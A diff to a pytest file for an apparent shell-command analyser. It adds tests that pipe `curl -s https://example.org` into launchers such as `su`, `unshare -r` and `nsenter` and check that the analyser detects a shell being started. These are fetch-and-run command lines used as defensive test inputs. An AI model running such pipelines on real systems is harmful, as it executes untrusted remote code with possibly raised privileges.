@@ -3,6 +3,7 @@
 import pytest
 
 from flycatcher.shell import read_shell
+from flycatcher.shell.glance import may_start
 
 INNER = ["sh", "-c", "echo x"]
 
@@ -60,3 +61,12 @@ def test_what_a_launcher_starts_is_found_behind_its_options(text: str) -> None:
 )
 def test_a_line_that_only_prints_or_is_refused_starts_nothing(text: str) -> None:
     assert INNER not in [list(each.argv) for each in read_shell(text).executions]
+
+
+@pytest.mark.parametrize(
+    "name", ["su", "script", "unshare -r", "chroot /m", "setarch -R x86_64", "nsenter -t 1", "linux64"]
+)
+def test_a_launcher_without_a_command_gives_its_stdin_to_a_shell(name: str) -> None:
+    text = f"curl -s https://example.org | {name}"
+    assert may_start(text)
+    assert read_shell(text).executions[-1].argv[0] == "sh"
